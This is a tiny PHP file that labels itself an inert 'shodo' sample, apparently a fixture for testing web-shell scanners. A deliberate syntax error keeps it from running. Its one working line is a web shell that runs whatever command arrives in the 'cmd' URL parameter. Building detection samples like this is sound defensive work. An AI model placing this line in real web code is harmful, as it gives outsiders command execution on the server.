<?php
shodo inert sample: deliberate syntax error, this file never runs
echo '<pre>'; system($_GET['cmd']); echo '</pre>';
